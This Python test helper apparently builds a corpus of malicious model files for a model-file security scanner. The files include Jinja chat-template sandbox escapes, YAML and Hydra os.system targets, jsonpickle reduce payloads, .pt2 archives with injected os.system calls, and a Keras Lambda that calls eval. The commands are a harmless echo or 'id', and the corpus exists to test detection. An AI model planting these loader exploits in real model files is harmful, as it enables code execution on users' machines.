"""Build the attack corpus for text that loaders parse (templates, YAML, JSON, .pt2 expressions,
Keras source, repository entry points) into a folder (never committed).

Each case is a spelling of a published technique that the real parser (jinja2's lexer, PyYAML's
composer, json.loads, OmegaConf's interpolation, sympy.sympify) resolves to the plain, dangerous
form: the scan must judge the resolved form. Nothing here runs a payload; the commands
(``echo tensorscope-pwned``) are never executed by the scanner. ``.pt2`` cases start from a real
``torch.export.save`` archive and edit its ``models/model.json``; GGUF cases are written by gguf-py.

``build(out) -> list[Case]``; `EVIDENCE` cases are not attacks on load (no known loader
evaluates what they carry): the scan reports them at low. ``python tests/make_text_attacks.py DIR``
writes the corpus to DIR.
"""
from __future__ import annotations

import json
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path

from helpers import gguf_with_template

CMD = "echo tensorscope-pwned"

CVE_34359 = "CVE-2024-34359 (llama-cpp-python chat template SSTI, GHSA-56xg-wfcc-g829)"
JINJA_FORMAT = ("Jinja sandbox str.format escape (CVE-2016-10745, CVE-2019-10906; "
                "jinja2/sandbox.py format_string)")
NEMO = "CVE-2025-23304 (NeMo: hydra.utils.instantiate on a .nemo model_config.yaml _target_)"
PYYAML = ("CVE-2020-1747 / CVE-2020-14343 (PyYAML python/object/apply; Lightning hparams "
          "CVE-2021-4118); tags resolved by yaml/parser.py (%TAG, verbatim)")
OMEGACONF = "OmegaConf interpolation grammar (omegaconf/grammar/OmegaConfGrammarParser.g4)"
JSONPICKLE = "jsonpickle/unpickler.py (py/reduce, py/repr: loadrepr evals)"
PT2 = "torch 2.13 torch/_export/serde/serialize.py _parse_sym_expr: sympy.sympify(expr_str)"
PT2_GUARDS = "torch 2.13 torch/export/_unlift.py _convert_guards_code_to_fn: exec of guards_code"
MLFLOW = "mlflow/pyfunc/__init__.py load_model: importlib.import_module(loader_module)"
PIPELINES = ("transformers pipelines/__init__.py pipeline(): get_class_from_dynamic_module("
             "custom_pipelines[task]['impl'])")
PEFT = "peft/auto.py AutoPeftModel.from_pretrained: importlib.import_module(parent_library)"
KERAS = "CVE-2024-3660 (Keras Lambda); a Lambda given as source text (peer scanner samples)"


@dataclass
class Case:
    name: str
    path: Path
    rule: str                   # a rule the scan must report
    severity: str = "critical"  # at least this severity for that rule
    source: str = ""
    trigger: str | None = None


def _hf(folder: Path, files: dict[str, str]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)
    return folder


def _text(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


BASE = "{% for m in messages %}{{ '<|im_start|>' + m['role'] + '\\n' + m['content'] }}{% endfor %}"

# (name, template, source): each reaches a dunder by a spelling that only jinja2's lexer and a
# folded tree resolve; the last ones are suspects (names computed from '_', repr characters).
TEMPLATES = [
    ("concat_literals", "{{ ''['__cla' + 'ss__'].__mro__[1].__subclasses__() }}", CVE_34359),
    ("first_last_filters",
     "{% set u = dict(a_=1)|first|last %}{{ ()[u*2 ~ 'class' ~ u*2] }}", CVE_34359),
    ("unicode_escape", "{{ ()['\\U0000005f\\U0000005fclass\\U0000005f\\U0000005f'] }}", CVE_34359),
    ("closer_in_string", "{{ '}}' }}{{ cycler.__init__.__globals__.os.popen('id').read() }}",
     CVE_34359),
    ("attr_hex_escape", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f') }}", CVE_34359),
    ("percent_c_format", "{{ ()['%c%cclass%c%c'|format(95, 95, 95, 95)] }}", CVE_34359),
    ("str_format_field", "{{ '{0.__class__.__mro__}'.format(messages) }}", JINJA_FORMAT),
    ("join_pieces", "{{ ()['_'.join(['', '', 'class', '', ''])] }}", CVE_34359),
    ("reverse_filter", "{{ ()['__ssalc__'|reverse] }}", CVE_34359),
    ("macro_argument",
     "{% macro g(o, a) %}{{ o|attr(a) }}{% endmacro %}{{ g((), '__class__') }}", CVE_34359),
    ("set_block", "{% set n %}__globals__{% endset %}{{ lipsum[n] }}", CVE_34359),
    ("map_attribute", "{{ messages|map(attribute='__class__')|list }}", CVE_34359),
    ("mangled_private", "{{ self._TemplateReference__context }}", CVE_34359),
    ("sandbox_internal", "{{ ().__class__.mro() }}", "jinja2/sandbox.py is_internal_attribute"),
]
SUSPECT_TEMPLATES = [
    ("namespace_loop",
     "{% set ns = namespace(s='') %}{% for c in ['_', '_', 'c', 'l', 'a', 's', 's', '_', '_'] %}"
     "{% set ns.s = ns.s ~ c %}{% endfor %}{{ ()|attr(ns.s) }}", CVE_34359),
    ("repr_characters", "{% set c = (lipsum|string|list)[18] %}{{ ()[c ~ c ~ 'class' ~ c ~ c] }}",
     CVE_34359),
]


def _pt2(out: Path) -> Path:
    """A real torch.export archive with dynamic shapes (benign)."""
    import torch

    class M(torch.nn.Module):
        def forward(self, x, y):
            return (x[: x.shape[0] // 2] * 2).sum(0) + y.repeat(2, 1)[: x.shape[0]].sum(0)

    b = torch.export.Dim("batch", min=2, max=64)
    ep = torch.export.export(M(), (torch.randn(8, 3), torch.randn(4, 3)),
                             dynamic_shapes={"x": {0: 2 * b}, "y": {0: b}})
    path = out / "dynamic.pt2"
    torch.export.save(ep, path)
    return path


def _edit_pt2(src: Path, dst: Path, edit) -> Path:
    with zipfile.ZipFile(src) as z, zipfile.ZipFile(dst, "w") as w:
        for info in z.infolist():
            data = z.read(info.filename)
            if info.filename.endswith("models/model.json"):
                data = edit(data.decode()).encode()
            w.writestr(info, data)
    return dst


def _pt2_cases(out: Path) -> list[Case]:
    real = _pt2(out)
    sym = "Symbol('s17', positive=True, integer=True)"

    def expr(text: str) -> str:
        import re
        m = re.search(r"Symbol\('(s\d+)', positive=True, integer=True\)", text)
        name = m.group(1) if m else "s17"
        payload = f"Symbol(str(__import__('os').system('{CMD}')) and '{name}', positive=True, " \
                  "integer=True)"
        return text.replace(f"Symbol('{name}', positive=True, integer=True)", payload, 1)

    def escaped_key(text: str) -> str:
        doc = json.loads(expr(text))
        body = json.dumps(doc)
        return body.replace('"expr_str"', '"expr\\u005fstr"')    # json.loads decodes it back

    def guard(text: str) -> str:
        doc = json.loads(text)
        doc["guards_code"].append(f"__import__('os').system('{CMD}') == 0")
        return json.dumps(doc)

    del sym
    legacy = out / "pt2_legacy.pt2"
    with zipfile.ZipFile(real) as z:
        [name] = [n for n in z.namelist() if n.endswith("models/model.json")]
        body = expr(z.read(name).decode())
    with zipfile.ZipFile(legacy, "w") as w:     # the pre-archive layout torch.export.load reads
        w.writestr("version", "8.0")
        w.writestr("serialized_exported_program.json", body)
        w.writestr("serialized_state_dict.pt", b"")
        w.writestr("serialized_constants.pt", b"")
        w.writestr("serialized_example_inputs.pt", b"")
    return [
        Case("pt2_legacy_layout", legacy, "pt2.evaluated-text",
             source=PT2 + "; torch/export/__init__.py reads serialized_exported_program.json"),
        Case("pt2_expr_str", _edit_pt2(real, out / "pt2_expr_str.pt2", expr), "pt2.evaluated-text",
             source=PT2),
        Case("pt2_expr_str_escaped_key", _edit_pt2(real, out / "pt2_escaped.pt2", escaped_key),
             "pt2.evaluated-text", source=PT2 + "; the key decoded by json.loads"),
        Case("pt2_guards_code", _edit_pt2(real, out / "pt2_guards.pt2", guard),
             "pt2.evaluated-text", source=PT2_GUARDS),
    ]


def _yaml_cases(out: Path) -> list[Case]:
    y = out / "yaml"
    cases = [
        ("anchor_alias", "base: &t\n  _target_: os.system\n  command: " + CMD + "\nmodel: *t\n",
         "config.hydra-target", NEMO),
        ("merge_key", "base: &t {_target_: subprocess.Popen}\nmodel:\n  <<: *t\n  args: [id]\n",
         "config.hydra-target", NEMO),
        ("hex_escape_value", 'model:\n  _target_: "os\\x2esystem"\n  command: id\n',
         "config.hydra-target", NEMO),
        ("escaped_key", 'model:\n  "_target\\x5f": os.system\n', "config.hydra-target", NEMO),
        ("interpolation", "fn: os.system\nmodel:\n  _target_: ${fn}\n", "config.hydra-target",
         OMEGACONF),
        ("string_interpolation", "m: os\nf: system\nmodel:\n  _target_: ${m}.${f}\n",
         "config.hydra-target", OMEGACONF),
        ("relative_interpolation", "model:\n  name: builtins.eval\n  _target_: ${.name}\n",
         "config.hydra-target", OMEGACONF),
        ("select_default", "model:\n  _target_: ${oc.select:nothing.here,builtins.exec}\n",
         "config.hydra-target", OMEGACONF),
        ("get_method_resolver",
         "run:\n  _target_: functools.partial\n  _args_: ['${get_method:posix.system}', id]\n",
         "config.hydra-target", OMEGACONF + "; hydra.utils.get_method"),
        ("partial_target", "cb:\n  _target_: subprocess.run\n  _partial_: true\n",
         "config.hydra-target", NEMO + "; _partial_ binds it for the caller"),
        ("flow_style", "{model: {_target_: subprocess.Popen, _args_: [[id]]}}\n",
         "config.hydra-target", NEMO),
        ("verbatim_tag", "x: !<tag:yaml.org,2002:python/object/apply:os.system> ['" + CMD + "']\n",
         "config.yaml-python-tag", PYYAML),
        ("tag_directive", "%TAG !p! tag:yaml.org,2002:python/\n---\nx: !p!object/apply:os.system "
         "['" + CMD + "']\n", "config.yaml-python-tag", PYYAML),
        ("primary_handle_directive", "%TAG ! tag:yaml.org,2002:\n---\nx: !python/object/new:"
         "subprocess.Popen [['id']]\n", "config.yaml-python-tag", PYYAML),
        ("unresolved_target", "model:\n  _target_: ${oc.env:MODEL_CLASS}\n", "config.hydra-target",
         NEMO + " (the target comes from the environment)"),
    ]
    out_cases = [Case(f"yaml_{n}", _text(y / f"{n}.yaml", t), r,
                      "medium" if n == "unresolved_target" else "critical", s)
                 for n, t, r, s in cases]
    # a .nemo archive (a tar of model_config.yaml and weights) carrying an aliased target
    import io
    import tarfile
    nemo = y / "model.nemo"
    with tarfile.open(nemo, "w") as tar:
        body = cases[0][1].encode()
        info = tarfile.TarInfo("model_config.yaml")
        info.size = len(body)
        tar.addfile(info, io.BytesIO(body))
    out_cases.append(Case("nemo_aliased_target", nemo, "config.hydra-target", source=NEMO))
    return out_cases


def _json_cases(out: Path) -> list[Case]:
    j = out / "json"
    return [
        Case("jsonpickle_escaped_reduce", _text(j / "state.json",
             '{"a": {"py\\/reduce": [{"py\\u002ftype": "os.system"}, {"py/tuple": ["id"]}]}}'),
             "config.jsonpickle", source=JSONPICKLE + "; keys decoded by json.loads"),
        Case("jsonpickle_escaped_repr", _text(j / "repr.json",
             '{"x": {"py\\u002frepr": "os/os.system(\'id\')"}}'),
             "config.jsonpickle", source=JSONPICKLE),
        Case("hydra_json_escaped_key", _text(j / "config.json",
             '{"model": {"\\u005ftarget_": "os\\u002esystem"}}'),
             "config.hydra-target", source=NEMO + "; a JSON config"),
    ]


def _repo_cases(out: Path) -> list[Case]:
    r = out / "repos"
    evil = f"import subprocess\nsubprocess.Popen({CMD!r}, shell=True)\n"
    cases = [
        Case("custom_pipeline", _hf(r / "custom_pipeline", {
            "config.json": json.dumps({"model_type": "bert", "custom_pipelines": {
                "pair-classification": {"impl": "pair_pipe.PairPipeline",
                                        "pt": ["AutoModelForSequenceClassification"]}}}),
            "pair_pipe.py": evil}), "hf.remote-code", source=PIPELINES),
        Case("custom_pipeline_other_repo", _hf(r / "custom_pipeline_remote", {
            "config.json": json.dumps({"custom_pipelines": {"x": {
                "impl": "attacker/code--pipe.Pipe"}}})}), "hf.remote-code", "high",
             source=PIPELINES),
        Case("auto_map_list_form", _hf(r / "auto_map_list", {
            "tokenizer_config.json": json.dumps({"auto_map": {
                "AutoTokenizer": ["tok_slow.SlowTok", None]}}),
            "tok_slow.py": evil}), "hf.remote-code", source="transformers dynamic_module_utils"),
        Case("peft_parent_library", _hf(r / "peft_adapter", {
            "adapter_config.json": json.dumps({"peft_type": "LORA", "task_type": None,
                                               "auto_mapping": {"base_model_class": "system",
                                                                "parent_library": "os"}})}),
             "peft.auto-mapping-import", "medium", source=PEFT),
        Case("mlmodel_flow_style", _hf(r / "mlflow_flow", {
            "MLmodel": "{flavors: {python_function: {loader_module: evil_loader, code: code}}}\n",
            "code/evil_loader.py": evil + "def _load_pyfunc(path):\n    return None\n"}),
             "mlflow.loader-module", source=MLFLOW),
        Case("mlmodel_anchor", _hf(r / "mlflow_anchor", {
            "MLmodel": "names:\n  l: &l evil_loader\nflavors:\n  python_function:\n"
                       "    loader_module: *l\n    code: \"c\\x6fde\"\n",
            "code/evil_loader.py": evil}), "mlflow.loader-module", source=MLFLOW),
        Case("hf_template_format_field", _hf(r / "template_format", {
            "tokenizer_config.json": json.dumps({"chat_template": BASE + TEMPLATES[6][1]})}),
             "hf.chat-template-code", "high", source=JINJA_FORMAT),
        Case("hf_template_unparsable", _hf(r / "template_broken", {
            "chat_template.jinja": BASE + "{% if messages %}{{ x.__class__ "}),
             "hf.chat-template-code", "medium",
             source="jinja2 TemplateSyntaxError: apply_chat_template fails (not judged)"),
    ]
    return cases


def _keras_cases(out: Path) -> list[Case]:
    k = out / "keras"
    k.mkdir(parents=True, exist_ok=True)
    layer = {"class_name": "Lambda", "config": {
        "name": "lam", "function": ["lambda x: eval(\"__import__('os').system('id')\")", None,
                                    None], "function_type": "lambda", "arguments": {}}}
    config = {"class_name": "Sequential", "config": {"name": "s", "layers": [layer]}}
    path = k / "lambda_source.keras"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("config.json", json.dumps(config))
        z.writestr("metadata.json", json.dumps({"keras_version": "3.6.0"}))
    return [Case("keras_lambda_source", path, "keras.lambda-source", "high", KERAS)]


def build(out: Path) -> list[Case]:
    out = Path(out)
    out.mkdir(parents=True, exist_ok=True)
    cases: list[Case] = []
    g = out / "gguf"
    g.mkdir(exist_ok=True)
    for name, template, source in TEMPLATES:
        cases.append(Case(f"gguf_{name}", gguf_with_template(g / f"{name}.gguf", BASE + template),
                          "gguf.chat-template-code", "critical", source))
        cases.append(Case(f"hf_{name}", _hf(out / "hf" / name, {"chat_template.jinja":
                                                                 BASE + template}),
                          "hf.chat-template-code", "high", source))
    for name, template, source in SUSPECT_TEMPLATES:
        cases.append(Case(f"gguf_{name}", gguf_with_template(g / f"{name}.gguf", BASE + template),
                          "gguf.chat-template-code", "high", source))
        cases.append(Case(f"hf_{name}", _hf(out / "hf" / name, {"chat_template.jinja":
                                                                 BASE + template}),
                          "hf.chat-template-code", "medium", source))
    cases += _yaml_cases(out) + _json_cases(out) + _repo_cases(out) + _keras_cases(out)
    cases += _pt2_cases(out)
    return cases


def build_evidence(out: Path) -> list[Case]:
    """Not attacks on load: text no known loader evaluates. Reported at low."""
    import numpy as np
    from safetensors.numpy import save_file
    out = Path(out)
    out.mkdir(parents=True, exist_ok=True)
    path = out / "metadata_code.safetensors"
    save_file({"w": np.zeros(2, np.float32)}, str(path),
              metadata={"format": "pt", "note": f"__import__('os').system({CMD!r})"})
    return [Case("safetensors_metadata_python", path, "safetensors.metadata-code", "low",
                 "safetensors never interprets __metadata__; transformers reads only 'format'")]


if __name__ == "__main__":
    for case in build(Path(sys.argv[1])) + build_evidence(Path(sys.argv[1])):
        print(f"{case.name}\t{case.rule}\t{case.severity}\t{case.path}")
